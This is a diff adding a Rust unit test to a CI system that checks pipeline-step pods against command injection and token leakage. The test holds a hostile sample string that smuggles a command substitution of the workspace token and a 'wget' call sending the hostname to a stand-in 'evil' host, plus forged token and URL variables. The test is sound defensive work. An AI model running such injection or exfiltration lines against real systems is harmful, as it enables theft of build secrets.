@@ -459,6 +459,85 @@ mod tests {
     }
 
     #[test]
+    fn hostile_step_fields_reach_no_place_they_could_inject_into() {
+        let settings = settings();
+        let hostile = "$(BATON_WORKSPACE_TOKEN)\"; wget http://evil/$HOSTNAME #\n\u{e9}";
+        let step_name = format!("{hostile}{}", "s".repeat(300));
+        let name = pod_name("build-42", &step_name, "a");
+        assert!(
+            name.len() <= MAX_NAME
+                && name
+                    .chars()
+                    .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || c == '-'),
+            "{name}"
+        );
+        let labels = step_labels(&settings, "acme/shop", "build-42", &step_name, false);
+        assert!(
+            labels
+                .values()
+                .all(|value| super::super::settings::is_label_value(value)),
+            "{labels:?}"
+        );
+        let limits = ResourceLimits::default();
+        let step = StepPod {
+            settings: &settings,
+            name: &name,
+            namespace: "baton-build-acme-shop",
+            labels: &labels,
+            annotations: BTreeMap::new(),
+            image: "registry.example/toolchain:1",
+            run: hostile,
+            workdir: "",
+            // A variable named as the helpers' token, and values that would expand it.
+            env: vec![
+                (TOKEN_KEY.into(), "forged".into()),
+                (URL_VAR.into(), "http://evil".into()),
+                ("X".into(), hostile.into()),
+            ],
+            secrets: Vec::new(),
+            limits: &limits,
+            timeout: Duration::from_secs(60),
+            workspace_bytes: 0,
+        };
+        let spec = step.pod().spec.unwrap();
+        let step_container = &spec.containers[0];
+        // The command is an argument of the wrapper, every `$` doubled: nothing expands.
+        let args = step_container.args.as_ref().unwrap();
+        assert_eq!(args[2], escape_expansion(hostile));
+        assert!(!args[0].contains("wget") && !args[0].contains("evil"));
+        let env = step_container.env.as_ref().unwrap();
+        assert!(
+            env.iter().all(|e| e.value_from.is_none()),
+            "the step got a secret reference: {env:?}"
+        );
+        assert_eq!(
+            env.iter().find(|e| e.name == "X").unwrap().value.as_deref(),
+            Some(escape_expansion(hostile).as_str())
+        );
+        // The helpers keep their own URL and the real token, whatever the step's variables say.
+        for helper in [&spec.init_containers.as_ref().unwrap()[0], &spec.containers[1]] {
+            let env = helper.env.as_ref().unwrap();
+            assert_eq!(env.len(), 2);
+            assert_eq!(env[0].value.as_deref(), Some(settings.url.as_str()));
+            assert_eq!(
+                env[1].value_from.as_ref().unwrap().secret_key_ref.as_ref().unwrap().key,
+                TOKEN_KEY
+            );
+            assert!(!helper.args.as_ref().unwrap()[0].contains("evil"));
+        }
+        // The token reaches no container by envFrom or a mounted volume.
+        for container in spec.init_containers.unwrap().iter().chain(&spec.containers) {
+            assert!(container.env_from.is_none(), "{}", container.name);
+        }
+        assert!(
+            spec.volumes
+                .unwrap()
+                .iter()
+                .all(|v| v.secret.is_none() && v.projected.is_none())
+        );
+    }
+
+    #[test]
     fn the_pod_is_locked_down() {
         let settings = settings();
         let labels = step_labels(&settings, "acme/shop", "build-42", "compile", false);
